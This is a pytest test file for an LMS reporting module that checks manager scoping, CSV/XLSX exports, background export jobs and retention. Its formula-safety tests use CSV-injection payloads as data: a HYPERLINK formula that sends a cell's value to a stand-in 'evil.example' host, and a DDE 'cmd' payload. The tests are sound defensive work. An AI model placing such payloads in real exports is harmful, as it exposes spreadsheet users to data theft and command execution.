"""Managers' pages and exports: scoping everywhere, numbers on screen == rows exported, CSV/XLSX files, the
background job for large exports (progress, download, owner only) and the retention purge."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse
from django.utils import timezone

from lms.organisations.models import Requirement, Target
from reporting import queries
from reporting.models import ExportJob
from reporting.queries import COLUMN_HEADERS, Filters


@pytest.fixture(autouse=True)
def private_exports(settings, tmp_path):
    settings.STORAGES = {**settings.STORAGES, "exports": {
        "BACKEND": "django.core.files.storage.FileSystemStorage", "OPTIONS": {"location": str(tmp_path / "exports")},
    }}


@pytest.fixture
def world(tree, groups, person, standard_test, course, record_attempt, enrol):
    """People in A (three civil servants, one adult) and in B (one civil servant), with results."""
    now = timezone.now()
    hoa = person(tree["A-A1-X"], full_name="Nguyễn Thị Hoa", email="hoa@example.vn", phone="+84912000001")
    binh = person(tree["A-A1-X"], full_name="Trần Văn Bình")
    cuong = person(tree["S-A2"], full_name="Lê Văn Cường")
    dung = person(tree["C-A1"], group="adult", full_name="Phạm Thị Dung")
    bac = person(tree["C-B1"], full_name="Người Ở Bắc", email="bac@example.vn")
    record_attempt(hoa, standard_test, 45, when=now - dt.timedelta(days=9))
    record_attempt(hoa, standard_test, 82, when=now - dt.timedelta(days=2))  # best of two
    record_attempt(binh, standard_test, 30, when=now - dt.timedelta(days=1))
    record_attempt(bac, standard_test, 90, when=now - dt.timedelta(days=1))
    enrol(hoa, course, completed=now - dt.timedelta(days=3))
    enrol(cuong, course)
    enrol(dung, course, completed=now - dt.timedelta(days=20))
    enrol(bac, course, completed=now)
    Target.objects.create(population_group=groups["civil-servant"], year=timezone.localdate().year, percent=90)
    requirement = Requirement.objects.create(
        title="CBCC đạt bài kiểm tra chuẩn", content_type=ContentType.objects.get_for_model(standard_test),
        object_id=standard_test.pk, unit=None, deadline=dt.date(2026, 12, 31),
    )
    requirement.population_groups.set([groups["civil-servant"]])
    return {"hoa": hoa, "binh": binh, "cuong": cuong, "dung": dung, "bac": bac, "requirement": requirement}


def _csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _export(client, **data):
    data.setdefault("format", "csv")
    return client.post(reverse("reporting:exports"), {k: v for k, v in data.items() if v is not None})


# --- Access ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["reporting:dashboard", "reporting:requirements", "reporting:exports"])
def test_learner_gets_403_and_anonymous_goes_to_login(client, learner, name):
    assert client.get(reverse(name)).status_code == 302
    client.force_login(learner)
    assert client.get(reverse(name)).status_code == 403


def test_manager_cannot_open_another_unit(client, world, tree, manager_a):
    client.force_login(manager_a)
    assert client.get(reverse("reporting:dashboard"), {"unit": tree["C-B1"].pk}).status_code == 404
    assert client.get(reverse("reporting:dashboard"), {"unit": tree["P-B"].code}).status_code == 404
    assert client.get(reverse("reporting:requirements"), {"unit": tree["P-B"].pk}).status_code == 404
    response = _export(client, unit=tree["P-B"].pk)
    assert response.status_code == 200 and "unit" in response.context["form"].errors


# --- Dashboard ------------------------------------------------------------------------------------


def test_dashboard_shows_only_the_managers_units(client, world, tree, manager_a):
    client.force_login(manager_a)
    response = client.get(reverse("reporting:dashboard"))
    assert response.status_code == 200
    board = response.context["board"]
    assert board.unit == tree["P-A"] and board.learners == 4
    assert {c.unit.code for c in board.children} == {"C-A1", "S-A2"}
    civil = next(g for g in board.groups if g.group.code == "civil-servant")
    assert (civil.learners, civil.passed, civil.target.percent) == (3, 1, 90)
    html = response.content.decode()
    assert "Người Ở Bắc" not in html and "<svg" in html and "<title id=" in html and "<desc id=" in html


def test_dashboard_drill_down(client, world, tree, manager_a):
    client.force_login(manager_a)
    board = client.get(reverse("reporting:dashboard"), {"unit": tree["C-A1"].pk}).context["board"]
    assert board.learners == 3  # Hoa, Bình (agency inside the ward) and Dung (the ward itself)
    assert [c.unit.code for c in board.children] == ["A-A1-X"]
    child = board.children[0]
    assert (child.learners, child.enrolled, child.completed, child.passed) == (2, 1, 1, 1)


def test_national_manager_sees_all(client, world, national_manager):
    client.force_login(national_manager)
    board = client.get(reverse("reporting:dashboard")).context["board"]
    # The five, and the national manager's own account: no place on their profile, so counted for the country
    # only (staff accounts are never counted; a manager who learns is a learner like anyone else).
    assert board.unit is None and board.learners == 6
    assert {c.unit.code for c in board.children} == {"P-A", "P-B"}


def test_dashboard_numbers_equal_export_rows(client, world, tree, manager_a, standard_test, course):
    client.force_login(manager_a)
    for unit in (tree["P-A"], tree["C-A1"], tree["A-A1-X"], tree["S-A2"]):
        board = client.get(reverse("reporting:dashboard"), {"unit": unit.pk}).context["board"]
        test = next(s for s in board.tests if s.item == standard_test)
        course_stat = next(s for s in board.courses if s.item == course)
        passed = _csv(_export(client, unit=unit.pk, assessment=standard_test.pk, status="done"))[1:]
        attempted = _csv(_export(client, unit=unit.pk, assessment=standard_test.pk))[1:]
        completed = _csv(_export(client, unit=unit.pk, course=course.pk, status="done"))[1:]
        enrolled = _csv(_export(client, unit=unit.pk, course=course.pk))[1:]
        assert len(passed) == test.completed and len(attempted) == test.enrolled
        assert len(completed) == course_stat.completed and len(enrolled) == course_stat.enrolled
        assert board.completed_total == len(completed)
        not_started = _csv(_export(client, unit=unit.pk, course=course.pk, status="not_started"))[1:]
        assert len(not_started) + course_stat.enrolled == board.learners


def test_weekly_trend_counts_recent_results(world, manager_a):
    weeks = queries.weekly_trend(manager_a, None)
    assert len(weeks) == 12 and weeks[0]["week"].weekday() == 0
    assert sum(w["passed"] for w in weeks) == 1  # Hoa's pass (Bắc is not A's)
    assert sum(w["completed"] for w in weeks) == 2  # Hoa's and Dung's completions


# --- Requirements ---------------------------------------------------------------------------------


def test_not_completed_list_is_scoped(client, world, manager_a, manager_b, national_manager):
    url = reverse("reporting:requirements")
    client.force_login(manager_a)
    response = client.get(url, {"requirement": world["requirement"].pk})
    names = [p.full_name for p in response.context["page"].object_list]
    assert sorted(names) == ["Lê Văn Cường", "Trần Văn Bình"]  # Hoa passed; Dung is not a civil servant
    summary = response.context["summary"]
    assert (summary.applies, summary.done) == (3, 1)
    client.force_login(manager_b)
    response = client.get(url, {"requirement": world["requirement"].pk})
    assert list(response.context["page"].object_list) == []  # Bắc passed; nobody from A shows
    client.force_login(national_manager)
    assert len(client.get(url).context["page"].object_list) == 2


def test_requirement_outside_scope_is_hidden(client, world, tree, manager_a, standard_test):
    elsewhere = Requirement.objects.create(
        title="Chỉ cho B", content_type=ContentType.objects.get_for_model(standard_test), object_id=standard_test.pk,
        unit=tree["P-B"], deadline=dt.date(2026, 1, 1),
    )
    client.force_login(manager_a)
    assert client.get(reverse("reporting:requirements"), {"requirement": elsewhere.pk}).status_code == 404


def test_requirement_status(world, tree, standard_test):
    requirement = world["requirement"]
    assert queries.requirement_status(requirement, world["hoa"]) == "done"
    assert queries.requirement_status(requirement, world["binh"], today=dt.date(2026, 6, 1)) == "pending"
    assert queries.requirement_status(requirement, world["binh"], today=dt.date(2027, 1, 1)) == "overdue"


# --- Exports --------------------------------------------------------------------------------------


def test_csv_has_bom_vietnamese_and_stable_columns(client, world, manager_a, standard_test):
    client.force_login(manager_a)
    response = _export(client, assessment=standard_test.pk)
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    rows = _csv(response)
    assert rows[0] == COLUMN_HEADERS and len(rows[0]) == 17
    hoa = next(r for r in rows[1:] if r[2] == "Nguyễn Thị Hoa")
    assert hoa[:8] == ["A-A1-X", "UBND phường Một", "Nguyễn Thị Hoa", "hoa@example.vn", "+84912000001",
                       "Cán bộ, công chức, viên chức", "Bài kiểm tra chuẩn CBCCVC", "Đạt"]
    assert hoa[8] == "82.0" and hoa[9:15] == ["3", "2", "1", "4", "2", "1"] and hoa[15]
    assert len([r for r in rows[1:] if r[2] == "Nguyễn Thị Hoa"]) == 1  # the best attempt only
    assert all(r[2] != "Người Ở Bắc" for r in rows[1:])


def test_export_filters(client, world, manager_a, groups, course):
    client.force_login(manager_a)
    adults = _csv(_export(client, group=groups["adult"].pk))[1:]
    assert [r[2] for r in adults] == ["Phạm Thị Dung"]
    today = timezone.localdate()
    recent = _csv(_export(client, course=course.pk, date_from=(today - dt.timedelta(days=7)).isoformat(),
                          date_to=today.isoformat()))[1:]
    assert [r[2] for r in recent] == ["Nguyễn Thị Hoa"]
    in_progress = _csv(_export(client, course=course.pk, status="not_done"))[1:]
    assert [(r[2], r[7]) for r in in_progress] == [("Lê Văn Cường", "Đang học")]


def test_xlsx_opens_with_openpyxl(client, world, manager_a):
    from openpyxl import load_workbook

    client.force_login(manager_a)
    response = _export(client, format="xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    body = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(body), read_only=True).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0] == COLUMN_HEADERS
    assert len(rows) - 1 == queries.export_count(manager_a, Filters())
    assert any(r[2] == "Nguyễn Thị Hoa" for r in rows[1:])


def test_national_manager_exports_everyone(client, world, national_manager):
    client.force_login(national_manager)
    names = {r[2] for r in _csv(_export(client))[1:]}
    assert {"Nguyễn Thị Hoa", "Người Ở Bắc"} <= names


# --- Large exports: background job ----------------------------------------------------------------


def test_large_export_runs_as_a_job(client, world, manager_a, manager_b, settings, django_capture_on_commit_callbacks):
    settings.EXPORT_SYNC_MAX_ROWS = 2
    client.force_login(manager_a)
    with django_capture_on_commit_callbacks(execute=True):
        response = _export(client)
    job = ExportJob.objects.get(owner=manager_a)
    assert response.status_code == 302 and response["Location"] == reverse("reporting:export_job", args=[job.pk])
    assert job.status == ExportJob.Status.DONE and job.progress == 100
    assert job.row_count == job.total_rows == queries.export_count(manager_a, Filters()) > 2
    assert job.expires_at > timezone.now() + dt.timedelta(hours=71)
    page = client.get(response["Location"])
    assert page.status_code == 200 and reverse("reporting:export_download", args=[job.pk]) in page.content.decode()
    status = client.get(reverse("reporting:export_job_status", args=[job.pk])).json()
    assert status["progress"] == 100 and status["download_url"]
    download = client.get(status["download_url"])
    rows = _csv(download)
    assert len(rows) - 1 == job.row_count and all(r[2] != "Người Ở Bắc" for r in rows[1:])
    # Someone else's job: not found, whoever asks.
    client.force_login(manager_b)
    for name in ("reporting:export_job", "reporting:export_job_status", "reporting:export_download"):
        assert client.get(reverse(name, args=[job.pk])).status_code == 404


def test_job_progress_is_saved_while_running(world, manager_a, monkeypatch):
    from reporting import services

    monkeypatch.setattr(services, "PROGRESS_EVERY", 1)
    seen = []
    original = services.ExportJob.objects.filter

    job = ExportJob.objects.create(owner=manager_a, format="xlsx", params=Filters().to_params())
    real_update = type(original(pk=job.pk)).update

    def spy(self, **kwargs):
        if "progress" in kwargs:
            seen.append(kwargs["progress"])
        return real_update(self, **kwargs)

    monkeypatch.setattr(type(original(pk=job.pk)), "update", spy)
    services.export_job_run(job_id=job.pk)
    job.refresh_from_db()
    assert job.status == "done" and job.file.name.endswith(".xlsx")
    assert seen[0] == 0 and seen[-1] == 100 and any(0 < p < 100 for p in seen)


def test_retention_purge(world, manager_a):
    from reporting.jobs import purge_expired_exports
    from reporting.services import export_job_run

    job = ExportJob.objects.create(owner=manager_a, format="csv", params=Filters().to_params())
    job = export_job_run(job_id=job.pk)
    storage, name = job.file.storage, job.file.name
    assert storage.exists(name)
    assert purge_expired_exports() == 0
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - dt.timedelta(minutes=1))
    assert purge_expired_exports() == 1
    assert not storage.exists(name) and not ExportJob.objects.filter(pk=job.pk).exists()


def test_expired_job_cannot_be_downloaded(client, world, manager_a):
    from reporting.services import export_job_run

    job = export_job_run(job_id=ExportJob.objects.create(owner=manager_a, params=Filters().to_params()).pk)
    client.force_login(manager_a)
    assert client.get(reverse("reporting:export_download", args=[job.pk])).status_code == 200
    ExportJob.objects.filter(pk=job.pk).update(expires_at=timezone.now() - dt.timedelta(seconds=1))
    assert client.get(reverse("reporting:export_download", args=[job.pk])).status_code == 404


def test_periodic_job_is_registered(settings):
    assert ("reporting.jobs.purge_expired_exports", 3600) in settings.PERIODIC_JOBS


@pytest.mark.parametrize("value,expected", [
    ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("@SUM(A1)", "'@SUM(A1)"), ("+x", "'+x"), ("-1+2*A1", "'-1+2*A1"),
    ("+84912345678", "+84912345678"), ("Nguyễn Thị Hoa", "Nguyễn Thị Hoa"), (82.0, 82.0), ("", ""),
])
def test_cells_cannot_become_formulas(value, expected):
    from reporting.exports import safe_cell

    assert safe_cell(value) == expected


def test_dashboard_year_switch(client, world, groups, manager_a):
    Target.objects.create(population_group=groups["civil-servant"], year=2025, percent=70)
    client.force_login(manager_a)
    board = client.get(reverse("reporting:dashboard"), {"year": "2025"}).context["board"]
    civil = next(g for g in board.groups if g.group.code == "civil-servant")
    assert board.year == 2025 and civil.target.percent == 70


def test_unit_target_overrides_the_default(world, tree, groups, manager_a):
    year = timezone.localdate().year
    Target.objects.create(population_group=groups["civil-servant"], year=year, percent=75, unit=tree["C-A1"])
    in_ward = queries.targets_for(tree["A-A1-X"], year)[(groups["civil-servant"].pk, "passed_standard_test")]
    elsewhere = queries.targets_for(tree["S-A2"], year)[(groups["civil-servant"].pk, "passed_standard_test")]
    assert (in_ward.percent, elsewhere.percent) == (75, 90)


def test_manager_without_units_sees_a_notice(client, make_manager):
    client.force_login(make_manager())
    response = client.get(reverse("reporting:dashboard"))
    assert response.status_code == 200 and "chưa được phân công" in response.content.decode()
    assert _csv(_export(client)) == [COLUMN_HEADERS]


def test_manager_of_two_units_switches(client, world, tree, make_manager):
    manager = make_manager(tree["S-A2"], tree["C-B1"])
    client.force_login(manager)
    first = client.get(reverse("reporting:dashboard"))
    assert first.context["unit"] == tree["S-A2"] and len(first.context["switch_units"]) == 2
    other = client.get(reverse("reporting:dashboard"), {"unit": tree["C-B1"].pk}).context["board"]
    assert other.learners == 1
    assert client.get(reverse("reporting:dashboard"), {"unit": tree["C-A1"].pk}).status_code == 404


def test_export_shows_the_valid_certificate_serial(world, manager_a, standard_test, course):
    """The serial column: the learner's valid certificate for that test or course (a revoked one is not shown)."""
    from certificates import serials
    from certificates.models import Certificate

    def certificate(user, kind, key, **extra):
        return Certificate.objects.create(
            serial=serials.generate(), user=user, kind=kind, achievement_key=key, learner_name=user.full_name,
            achievement_title="x", issuing_body="Bộ GD&ĐT", issued_at=timezone.now(), **extra,
        )

    passed = certificate(world["hoa"], Certificate.Kind.ASSESSMENT, str(standard_test.pk))
    completed = certificate(world["dung"], Certificate.Kind.COURSE, str(course.translation_key))
    certificate(world["hoa"], Certificate.Kind.COURSE, str(course.translation_key), status=Certificate.Status.REVOKED,
                revoked_at=timezone.now(), revocation_reason="Cấp lại")
    rows = {(r[2], r[6]): r for r in queries.export_rows(manager_a, Filters())}
    assert rows[("Nguyễn Thị Hoa", standard_test.title)][16] == serials.display(passed.serial)
    assert rows[("Phạm Thị Dung", course.title)][16] == serials.display(completed.serial)
    assert rows[("Nguyễn Thị Hoa", course.title)][16] == ""
    assert rows[("Trần Văn Bình", standard_test.title)][16] == ""


def test_streamed_export_rows_equal_the_iterators(transactional_db, world, manager_a, standard_test, course,
                                                   monkeypatch, django_assert_num_queries):
    """Issue 17: outside a transaction, the export streams its SELECTs (``queries.streamed``) on a connection of
    its own instead of a server-side cursor. Its rows are the ones Django's iterator gives (the same converters:
    the local day, the JSON result, the score), in every part (tests, courses, not started), in both languages;
    and the main connection can write while a stream is open (the job's progress, the export log)."""
    from django.db import connection
    from django.utils import translation

    opened = []
    if connection.vendor == "postgresql":
        real = connection.get_new_connection
        monkeypatch.setattr(connection, "get_new_connection", lambda params: opened.append(1) or real(params))
    rows = queries.export_rows(manager_a, Filters())
    first = next(rows)
    manager_a.save(update_fields=["full_name"])  # a write on the main connection, the stream half read
    assert next(rows) != first
    rows.close()
    assert len(opened) == 1 or connection.vendor != "postgresql"  # PostgreSQL: one connection of its own per export

    with translation.override("en"):
        streamed_rows = list(queries.export_rows(manager_a, Filters()))
        streamed_none = list(queries.export_rows(manager_a, Filters(course=course, status="not_started")))
    monkeypatch.setattr(queries, "streamed",
                        lambda qs, chunk_size=queries.CHUNK, streams=None: qs.iterator(chunk_size=chunk_size))
    with translation.override("en"):
        assert list(queries.export_rows(manager_a, Filters())) == streamed_rows
        assert list(queries.export_rows(manager_a, Filters(course=course, status="not_started"))) == streamed_none
    assert any(row[8] != "" and row[9] != "" for row in streamed_rows)  # scores and levels came through
    assert streamed_none and all(row[7] == "Not started" for row in streamed_none)


def test_an_abandoned_stream_leaves_the_connection_usable(transactional_db, world):
    """A download closed half-way stops reading the stream (the generator is closed): the next query on the
    connection works, inside a transaction or not, and chunks smaller than the result change nothing."""
    from django.db import transaction

    from lms.accounts.models import User

    qs = User.objects.order_by("pk").values_list("pk", "email", "date_joined")
    assert list(queries.streamed(qs, chunk_size=2)) == list(qs.iterator(chunk_size=2))
    rows = queries.streamed(qs, chunk_size=2)
    next(rows)
    rows.close()
    assert User.objects.count() == len(list(qs))
    with transaction.atomic():
        rows = queries.streamed(qs, chunk_size=2)
        next(rows)
        rows.close()
        assert User.objects.filter(pk__gt=0).exists()


# --- Audit 2026-12-04: spreadsheet formulas ---------------------------------------------------------


def test_export_cells_are_never_spreadsheet_formulas(tmp_path):
    """Failed before: a course title from an editor such as =HYPERLINK("http://evil?"&C2) reached the manager's
    CSV as a formula, and openpyxl wrote it into the XLSX as a live formula (data type "f")."""
    import csv as csv_module
    import io

    from openpyxl import load_workbook

    from reporting.exports import csv_lines, write_xlsx

    title = '=HYPERLINK("http://evil.example/?"&C2,"Bấm")'
    row = ["C-A1", "Phường Một", "Nguyễn Thị Lan", "=1+1@example.vn", "+84912000123", "@SUM(A1)", title,
           "+cmd|' /C calc'!A0", "-", 90.0]
    text = b"".join(csv_lines([row])).decode("utf-8-sig")
    cells = list(csv_module.reader(io.StringIO(text)))[1]
    assert cells[6] == "'" + title and cells[3] == "'=1+1@example.vn" and cells[5] == "'@SUM(A1)"
    assert cells[7].startswith("'+") and cells[4] == "+84912000123" and cells[8] == "-" and cells[9] == "90.0"
    path = tmp_path / "x.xlsx"
    write_xlsx([row], path)
    sheet = load_workbook(path).active
    values = [cell for cell in sheet.iter_rows(min_row=2, max_row=2)][0]
    assert all(cell.data_type != "f" for cell in values)
    assert values[6].value == "'" + title and values[4].value == "+84912000123" and values[9].value == 90.0


def test_chunked_csv_is_every_row_written_safely_and_counts_per_chunk():
    """The CSV writer writes ``ROWS_PER_CHUNK`` rows at a time and searches each chunk once (issue 17): its output
    is byte for byte every row written through ``_safe`` one by one, whichever rows of a chunk are risky (first,
    middle, last, none), with line breaks inside quoted cells, and ``on_row`` hears the count after each chunk."""
    import csv as csv_module
    import datetime as dt
    import io

    from reporting.exports import BOM, ROWS_PER_CHUNK, _safe, csv_lines

    def plain(n):
        return [f"C-{n}", "Phường Một", f"Nguyễn Văn {n}", f"hv{n}@example.vn", "+84912000123", dt.date(2026, 12, 4),
                "Dòng một\nDòng hai, có dấu phẩy", 75.5 if n % 2 else None, ""]

    rows = [plain(n) for n in range(ROWS_PER_CHUNK * 3 + 7)]
    for at in (0, ROWS_PER_CHUNK + 100, 2 * ROWS_PER_CHUNK - 1, len(rows) - 1):
        rows[at][2] = '=HYPERLINK("http://evil.example/?"&C2)'
    rows[ROWS_PER_CHUNK + 5][6] = "Dòng một\n=1+1"  # a line break then "=": a false alarm, written the same
    counts = []
    text = b"".join(csv_lines(rows, on_row=counts.append)).decode("utf-8")
    expected = io.StringIO()
    writer = csv_module.writer(expected)
    writer.writerow(["x"])  # the header is the language's; compared after it
    for row in rows:
        writer.writerow(_safe(row))
    assert text.startswith(BOM)
    body = text.split("\r\n", 1)[1]
    assert body == expected.getvalue().split("\r\n", 1)[1]
    assert counts == [ROWS_PER_CHUNK, 2 * ROWS_PER_CHUNK, 3 * ROWS_PER_CHUNK, len(rows)]
    parsed = list(csv_module.reader(io.StringIO(body)))
    assert len(parsed) == len(rows) and parsed[0][2].startswith("'=") and parsed[1][2] == "Nguyễn Văn 1"
    assert parsed[ROWS_PER_CHUNK + 5][6] == "Dòng một\n=1+1" and parsed[3][4] == "+84912000123"


def test_chunked_csv_search_misses_no_risky_cell_in_random_rows():
    """The one search per chunk is only a filter before ``_safe``: over random cells made of the characters that
    matter (signs, digits, spaces, dots, quotes, commas, line breaks, tabs, "=", "@"), the output is always every
    row written through ``_safe`` (a miss would leave a formula in a manager's spreadsheet)."""
    import csv as csv_module
    import io
    import random

    from reporting.exports import _safe, csv_lines

    rng = random.Random(17)
    alphabet = ["+", "-", "=", "@", "\t", "\r", "\n", '"', ",", " ", ".", "1", "8", "4", "a", "ư"]
    rows = [[("".join(rng.choice(alphabet) for _ in range(rng.randint(0, 5))) if rng.random() < 0.9
              else rng.choice([None, -1.5, 3, 2.0])) for _ in range(4)] for _ in range(3000)]
    for row in rows:  # one row per call: in a chunk of many, another row's alarm would hide a miss
        expected = io.StringIO()
        csv_module.writer(expected).writerow(_safe(row))
        assert b"".join(csv_lines([row])).decode("utf-8").split("\r\n", 1)[1] == expected.getvalue(), row


def test_a_test_never_approved_is_not_offered_to_managers(db):
    """Official review: a test an editor created but no reviewer approved is not in the managers' test list."""
    from quizzes.models import Assessment, Framework

    framework = Framework.objects.get(code="TT02-2025")

    draft = Assessment.objects.create(framework=framework, title="Bản nháp chưa duyệt", slug="ban-nhap",
                                      is_published=True, live=False)
    approved = Assessment.objects.create(framework=framework, title="Đã duyệt", slug="da-duyet",
                                         is_published=True, live=True)
    offered = queries.report_assessments()
    assert approved in offered and draft not in offered
